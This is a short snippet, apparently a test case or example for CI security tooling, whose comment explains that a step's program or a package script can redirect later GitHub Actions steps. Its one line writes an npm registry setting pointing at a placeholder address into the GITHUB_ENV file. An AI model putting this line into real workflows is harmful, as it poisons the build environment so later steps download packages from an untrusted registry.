# A program of the step, not its shell, points later steps to another registry; a script of a package would do the same.
python3 -c 'import os; open(os.environ["GITHUB_ENV"], "a").write("npm_config_registry=http://192.0.2.1/\n")'
